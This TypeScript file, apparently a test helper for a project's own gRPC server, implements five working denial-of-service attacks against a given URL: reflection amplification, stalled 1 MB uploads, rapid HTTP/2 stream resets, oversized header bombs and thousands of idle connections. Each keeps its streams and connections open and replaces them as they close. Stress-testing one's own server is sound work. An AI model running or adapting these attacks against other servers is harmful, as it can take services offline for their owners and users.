/** `node attacker.ts URL ATTACK MS`: attacks a server for some time without a token, then ends. */
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from "node:http2";
import { connect as connectSocket } from "node:net";
import { create, toBinary } from "@bufbuild/protobuf";
import { ServerReflectionRequestSchema } from "../../gen/grpc/reflection/v1/reflection_pb.ts";

const [url = "", attack = "", ms = "0"] = process.argv.slice(2);
// A connection that the server closes is part of the attack.
process.on("uncaughtException", () => undefined);
setTimeout(() => process.exit(), Number(ms));

const grpc = { ":method": "POST", "content-type": "application/grpc", te: "trailers" };
const reflection = { ...grpc, ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo" };
const check = { ...grpc, ":path": "/grpc.health.v1.Health/Check" };

const attacks: Readonly<Record<string, () => void>> = {
  /** Many short questions, each with a large answer. */
  reflection() {
    const symbol = { case: "fileContainingSymbol" as const, value: "opencode.tool.v1.ToolService" };
    const question = create(ServerReflectionRequestSchema, { messageRequest: symbol });
    const body = Buffer.concat(Array(8).fill(frame(toBinary(ServerReflectionRequestSchema, question))));
    keepOpen({ connections: 50, streams: 100 }, (session) => {
      const stream = session.request(reflection);
      stream.end(body);
      return stream.resume();
    });
  },
  /** Bodies that arrive almost whole and never end. */
  uploads() {
    keepOpen({ connections: 2, streams: 64 }, (session) => {
      const stream = session.request(check);
      stream.write(frame(Buffer.alloc(1_048_576)).subarray(0, -1));
      return stream.resume();
    });
  },
  /** Streams that are opened and reset at once. */
  resets() {
    keepOpen({ connections: 4, streams: 50 }, (session) => {
      const stream = session.request({ ":path": "/healthz" });
      stream.close(constants.NGHTTP2_CANCEL);
      return stream;
    });
  },
  /** Headers that are 58 kB, and some bytes each on the wire. */
  headers() {
    const bomb = Array(15).fill("v".repeat(3_900));
    keepOpen({ connections: 4, streams: 50 }, (session) =>
      session.request({ ":path": "/healthz", "x-bomb": bomb }).resume(),
    );
  },
  /** Connections that send nothing. */
  connections() {
    for (let count = 0; count < 2_000; count += 1) connectSocket(Number(new URL(url).port), "127.0.0.1");
  },
};
attacks[attack]?.();

/** Opens connections, and streams on each of them; each one that ends is replaced by another. */
function keepOpen(
  { connections, streams }: { connections: number; streams: number },
  open: (session: ClientHttp2Session) => ClientHttp2Stream,
): void {
  const connectOne = () => {
    const session = connect(url);
    const openOne = () => {
      if (session.closed || session.destroyed) return;
      open(session)
        .on("error", () => undefined)
        .once("close", () => setImmediate(openOne));
    };
    session.on("error", () => undefined).once("close", () => setTimeout(connectOne, 10));
    session.once("connect", () => {
      for (let count = 0; count < streams; count += 1) openOne();
    });
  };
  for (let count = 0; count < connections; count += 1) connectOne();
}

function frame(message: Uint8Array): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}
